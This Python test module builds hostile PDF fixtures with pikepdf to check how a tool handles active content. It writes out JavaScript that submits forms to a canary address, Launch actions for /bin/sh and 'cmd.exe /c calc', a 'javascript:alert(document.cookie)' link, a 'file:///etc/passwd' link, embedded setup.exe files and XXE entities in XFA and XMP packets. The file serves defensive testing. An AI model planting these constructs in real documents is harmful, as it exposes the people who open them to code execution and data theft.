"""PDFs that act: scripts, programs, forms, addresses, files in them."""

from collections.abc import Callable, Iterator

from pikepdf import Array, Dictionary, Name, Pdf, String

from tests import samples
from tests.hostile.cases import ACCEPTED, Case, State

SCRIPT = "app.alert('ran'); this.submitForm('{canary}/js'); app.launchURL('{canary}/url')"


def cases() -> Iterator[Case]:
    for name, act in ACTIONS.items():
        yield Case(f"active/open-{name}", f"{name}.pdf", _made(_on_open(act)), ACCEPTED, "")
    for name, change in CHANGES.items():
        yield Case(f"active/{name}", f"{name}.pdf", _made(change), ACCEPTED, STATES.get(name, ""))


def _made(change: Callable[[Pdf, str], None]):
    def made(canary: str) -> bytes:
        document = samples._document(pages=2, text="Active")
        change(document, canary)
        return samples._saved(document)

    return made


def _on_open(act):
    def change(document: Pdf, canary: str) -> None:
        document.Root.OpenAction = act(canary)
        document.pages[0].AA = Dictionary(O=act(canary), C=act(canary))

    return change


def _script(canary):
    return Dictionary(S=Name.JavaScript, JS=String(SCRIPT.format(canary=canary)))


def _remote(canary):
    return Dictionary(FS=Name.URL, F=String(f"{canary}/remote"))


ACTIONS = {
    "script": _script,
    "launch": lambda canary: Dictionary(
        S=Name.Launch, F=String("/bin/sh"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))
    ),
    "address": lambda canary: Dictionary(S=Name.URI, URI=String(f"{canary}/uri")),
    "submit": lambda canary: Dictionary(S=Name.SubmitForm, F=_remote(canary), Flags=4),
    "import": lambda canary: Dictionary(S=Name.ImportData, F=_remote(canary)),
    "remote": lambda canary: Dictionary(S=Name.GoToR, F=_remote(canary), D=Array([0, Name.Fit])),
    "embedded": lambda canary: Dictionary(
        S=Name.GoToE, D=String("x"), T=Dictionary(R=Name.C, N=String("setup.exe"))
    ),
    "hide": lambda canary: Dictionary(S=Name.Hide, T=String("field"), Next=_script(canary)),
    "named": lambda canary: Dictionary(S=Name.Named, N=Name.Print, Next=_script(canary)),
    "rendition": lambda canary: Dictionary(
        S=Name.Rendition, OP=0, JS=String(SCRIPT.format(canary=canary))
    ),
    "sound": lambda canary: Dictionary(S=Name.Sound, Sound=_remote(canary)),
}


def _annotation(document: Pdf, **values) -> None:
    annotation = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 500, 800]), F=4, **values)
    document.pages[0].Annots = Array([document.make_indirect(annotation)])


def _link(document, canary):
    _annotation(document, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String(f"{canary}/link")))


def _script_link(document, canary):
    uri = String("javascript:alert(document.cookie)")
    _annotation(document, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=uri))


def _file_link(document, canary):
    _annotation(
        document, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))
    )


def _attachment(document, canary):
    document.attachments["setup.exe"] = samples.program()


def _attached_note(document, canary):
    document.attachments["setup.exe"] = samples.program()
    spec = document.Root.Names.EmbeddedFiles.Names[1]
    _annotation(document, Subtype=Name.FileAttachment, FS=spec)


def _associated(document, canary):
    document.attachments["setup.exe"] = samples.program()
    spec = document.Root.Names.EmbeddedFiles.Names[1]
    document.pages[0].AF = Array([spec])
    document.pages[0].Contents.AF = Array([spec])


def _named_scripts(document, canary):
    tree = Dictionary(Names=Array([String("run"), _script(canary)]))
    document.Root.Names = Dictionary(JavaScript=tree)


def _closing(document, canary):
    document.Root.AA = Dictionary(WC=_script(canary), WS=_script(canary), DP=_script(canary))


def _calculating_form(document, canary):
    field = document.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T=String("field"),
            Subtype=Name.Widget,
            Rect=Array([0, 0, 100, 20]),
            AA=Dictionary(C=_script(canary), F=_script(canary), K=_script(canary)),
        )
    )
    document.Root.AcroForm = Dictionary(Fields=Array([field]), CO=Array([field]))
    document.pages[0].Annots = Array([field])


def _submit_button(document, canary):
    _annotation(
        document,
        Subtype=Name.Widget,
        FT=Name.Btn,
        T=String("go"),
        A=Dictionary(S=Name.SubmitForm, F=_remote(canary)),
    )
    document.Root.AcroForm = Dictionary(Fields=document.pages[0].Annots)


XFA = (
    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
    '<script contentType="application/x-javascript">app.alert("ran")</script></event></subform>'
    '</template><!DOCTYPE x [<!ENTITY e SYSTEM "{canary}/xfa">]></xdp:xdp>'
)


def _xfa(document, canary):
    form = document.make_stream(XFA.format(canary=canary).encode())
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=form)


def _dynamic_xfa(document, canary):
    _xfa(document, canary)
    document.Root.NeedsRendering = True


def _package(document, canary):
    document.attachments["setup.exe"] = samples.program()
    document.Root.Collection = Dictionary(Type=Name.Collection, View=Name.D)


def _content_elsewhere(document, canary):
    """The page's own content is said to be at an address."""
    document.pages[0].Contents.F = _remote(canary)
    document.pages[0].Contents.FFilter = Name.FlateDecode


def _picture_elsewhere(document, canary):
    picture = document.make_stream(bytes(3), Type=Name.XObject, Subtype=Name.Image, Width=1)
    picture.Height, picture.BitsPerComponent, picture.ColorSpace = 1, 8, Name.DeviceRGB
    picture.F = _remote(canary)
    picture.OPI = Dictionary()
    document.pages[0].Resources.XObject = Dictionary(P=picture)
    document.pages[0].Contents.write(b"q 500 0 0 500 0 0 cm /P Do Q")


def _reference_page(document, canary):
    """A page of another document in this one's place (PDF 1.4, reference XObjects)."""
    form = document.make_stream(b"", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
    form.Ref = Dictionary(F=_remote(canary), Page=0)
    document.pages[0].Resources.XObject = Dictionary(P=form)
    document.pages[0].Contents.write(b"/P Do")


def _movie(document, canary):
    _annotation(
        document,
        Subtype=Name.Movie,
        Movie=Dictionary(F=_remote(canary)),
        A=Dictionary(Mode=Name.Once),
    )


def _rich_media(document, canary):
    content = Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), _remote(canary)])))
    _annotation(document, Subtype=Name.RichMedia, RichMediaContent=content)


def _screen(document, canary):
    media = Dictionary(
        S=Name.MR, C=Dictionary(S=Name.MCD, D=_remote(canary), CT=String("video/mp4"))
    )
    _annotation(document, Subtype=Name.Screen, A=Dictionary(S=Name.Rendition, OP=0, R=media))


def _outline(document, canary):
    item = document.make_indirect(Dictionary(Title=String("Open me"), A=_script(canary)))
    document.Root.Outlines = document.make_indirect(Dictionary(First=item, Last=item, Count=1))
    item.Parent = document.Root.Outlines


def _base(document, canary):
    document.Root.URI = Dictionary(Base=String(canary))
    _link(document, canary)


def _metadata(document, canary):
    packet = (
        f'<?xpacket begin=""?><!DOCTYPE x [<!ENTITY e SYSTEM "{canary}/xmp">]>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><script>alert(1)</script>&e;</x:xmpmeta>'
    )
    document.Root.Metadata = document.make_stream(packet.encode(), Type=Name.Metadata)
    document.docinfo[Name.Title] = String("<script>alert(1)</script>")


def _signed_elsewhere(document, canary):
    document.Root.Perms = Dictionary(DocMDP=Dictionary(Type=Name.Sig, Filter=Name.Evil))
    document.Root.Requirements = Array([Dictionary(S=Name.EnableJavaScripts)])


def _web_capture(document, canary):
    document.Root.SpiderInfo = Dictionary(V=1.0, C=Array([Dictionary(URL=String(canary))]))


CHANGES = {
    "link": _link,
    "link-script": _script_link,
    "link-file": _file_link,
    "attachment": _attachment,
    "attached-note": _attached_note,
    "associated": _associated,
    "named-scripts": _named_scripts,
    "closing": _closing,
    "calculating-form": _calculating_form,
    "submit-button": _submit_button,
    "xfa": _xfa,
    "dynamic-xfa": _dynamic_xfa,
    "package": _package,
    "content-elsewhere": _content_elsewhere,
    "picture-elsewhere": _picture_elsewhere,
    "reference-page": _reference_page,
    "movie": _movie,
    "rich-media": _rich_media,
    "screen": _screen,
    "outline": _outline,
    "base": _base,
    "metadata": _metadata,
    "permissions": _signed_elsewhere,
    "web-capture": _web_capture,
}
STATES = {"dynamic-xfa": State.PARTLY, "package": State.PARTLY}
